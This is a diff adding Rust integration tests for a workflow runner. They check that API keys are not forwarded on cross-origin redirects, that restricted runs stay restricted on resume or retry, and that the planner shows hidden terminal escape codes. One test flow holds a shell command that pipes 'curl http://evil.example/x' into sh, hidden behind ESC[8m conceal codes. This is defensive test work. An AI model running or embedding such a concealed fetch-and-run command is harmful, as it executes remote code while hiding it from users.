@@ -597,3 +597,178 @@ fn saving_your_own_flow_trusts_its_folder_but_saving_a_restricted_one_does_not()
     );
     assert!(!app.is_restricted());
 }
+
+/// The server keys must not reach: it records what it is sent and answers 200.
+fn thief_server() -> &'static LocalServer {
+    static SERVER: OnceLock<LocalServer> = OnceLock::new();
+    SERVER.get_or_init(|| LocalServer::start(|_, s| respond(s, "200 OK", "text/plain", "stolen")))
+}
+
+/// Redirects `/cross` to the thief (another origin) and `/same` to `/landed` on itself,
+/// where it answers 200 with the `X-Api-Key` it was sent.
+fn redirect_server() -> &'static LocalServer {
+    static SERVER: OnceLock<LocalServer> = OnceLock::new();
+    SERVER.get_or_init(|| {
+        LocalServer::start(|req, s| {
+            let moved = |s: &mut TcpStream, to: &str| {
+                io::Write::write_all(
+                    s,
+                    format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
+                        .as_bytes(),
+                )
+            };
+            if req.path.starts_with("/cross") {
+                moved(s, &format!("{}/steal", thief_server().base))
+            } else if req.path.starts_with("/same") {
+                moved(s, "/landed")
+            } else {
+                let key = req.header("x-api-key").unwrap_or("none");
+                respond(s, "200 OK", "text/plain", &format!("key: {key}"))
+            }
+        })
+    })
+}
+
+#[test]
+fn env_key_headers_are_not_sent_on_a_redirect_to_another_origin() {
+    let dir = tempfile::tempdir().unwrap();
+    let secret = "tok-redirect-0123456789";
+    let run = |path: &str| {
+        let file = dir.path().join("get.flow");
+        let flow = r#"Flow(version: 1, nodes: [
+            Node(id: "get", kind: "http_request", params: {"headers": {"Authorization": "Bearer ${env:FLOWCANVAS_REDIRECT_TOKEN}", "X-Api-Key": "${env:FLOWCANVAS_REDIRECT_TOKEN}", "Accept": "text/plain"}}, values: {"url": "URL"}),
+        ], edges: [])"#
+            .replace("URL", &format!("{}{path}", redirect_server().base));
+        std::fs::write(&file, flow).unwrap();
+        Command::new(BIN)
+            .args(["run", "--json", "--no-store", file.to_str().unwrap()])
+            .env("FLOWCANVAS_CONFIG_DIR", dir.path().join("config"))
+            .env("FLOWCANVAS_REDIRECT_TOKEN", secret)
+            .output()
+            .unwrap()
+    };
+
+    // To another origin: followed, but neither key header goes along.
+    let out = run("/cross");
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    let stolen = thief_server().received();
+    assert!(
+        stolen.iter().any(|r| r.path == "/steal"),
+        "the redirect is followed"
+    );
+    for request in &stolen {
+        assert!(
+            request.header("x-api-key").is_none() && request.header("authorization").is_none(),
+            "the other origin saw a key: {request:?}"
+        );
+        assert!(!format!("{request:?}").contains(secret));
+        assert_eq!(
+            request.header("accept"),
+            Some("text/plain"),
+            "other headers go along"
+        );
+    }
+
+    // On the same origin the key is still sent.
+    let out = run("/same");
+    let stdout = text(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{stdout}");
+    assert!(
+        redirect_server()
+            .received()
+            .iter()
+            .any(|r| r.path == "/landed" && r.header("x-api-key") == Some(secret)),
+        "a same-origin redirect keeps the key"
+    );
+}
+
+#[test]
+fn resume_and_retry_of_a_restricted_run_stay_restricted() {
+    let (root, file) = mixed_flow();
+    let config = root.path().join("config");
+    let marker = file.with_file_name("marker.txt");
+    let out = flowcanvas(&["run", "--restricted", file.to_str().unwrap()], &config);
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
+    assert!(!marker.exists());
+    let out = flowcanvas(&["runs", "--json", file.to_str().unwrap()], &config);
+    assert!(
+        text(&out.stdout).contains("\"restricted\":true"),
+        "the record says restricted: {}",
+        text(&out.stdout)
+    );
+    for verb in ["resume", "retry"] {
+        let out = flowcanvas(&[verb, file.to_str().unwrap()], &config);
+        assert!(
+            !marker.exists(),
+            "`{verb}` ran the shell node of a restricted run: {}{}",
+            text(&out.stdout),
+            text(&out.stderr)
+        );
+        assert_eq!(out.status.code(), Some(3), "{verb}: {}", text(&out.stderr));
+        assert!(text(&out.stdout).contains("needs trust"), "{verb}");
+    }
+}
+
+#[test]
+fn retry_restricted_restricts_a_continuation_of_an_unrestricted_run() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("fail.flow");
+    std::fs::write(
+        &file,
+        r#"Flow(version: 1, nodes: [
+    Node(id: "sh", kind: "shell", title: "Count and fail", params: {"command": "echo ran >> count.txt; exit 1"}),
+], edges: [])"#,
+    )
+    .unwrap();
+    let config = dir.path().join("config");
+    let count = dir.path().join("count.txt");
+    let out = flowcanvas(&["run", file.to_str().unwrap()], &config);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
+    assert_eq!(std::fs::read_to_string(&count).unwrap().lines().count(), 1);
+    for verb in ["retry", "resume"] {
+        let out = flowcanvas(&[verb, "--restricted", file.to_str().unwrap()], &config);
+        assert_eq!(out.status.code(), Some(3), "{verb}: {}", text(&out.stderr));
+        assert_eq!(
+            std::fs::read_to_string(&count).unwrap().lines().count(),
+            1,
+            "`{verb} --restricted` ran the shell node"
+        );
+    }
+}
+
+#[test]
+fn plan_shows_escape_sequences_hidden_in_a_command_instead_of_sending_them() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("hide.flow");
+    // The flow file holds real ESC bytes (RON strings take `\u{1b}`): on a terminal `ESC[8m`
+    // would conceal the pipe into `sh`.
+    std::fs::write(
+        &file,
+        r#"Flow(version: 1, nodes: [
+    Node(id: "sh", kind: "shell", title: "Say \u{1b}[8mhi", params: {"command": "echo hi\u{1b}[8m; curl http://evil.example/x | sh\u{1b}[0m"}),
+], edges: [])"#,
+    )
+    .unwrap();
+    let out = flowcanvas(
+        &["plan", file.to_str().unwrap()],
+        &dir.path().join("config"),
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(
+        !out.stdout.contains(&0x1b),
+        "an ESC byte reached the terminal: {:?}",
+        text(&out.stdout)
+    );
+    let stdout = text(&out.stdout);
+    assert!(
+        stdout.contains(r"`echo hi\e[8m; curl http://evil.example/x | sh\e[0m`"),
+        "{stdout}"
+    );
+    assert!(stdout.contains(r"Say \e[8mhi (sh)"), "{stdout}");
+}
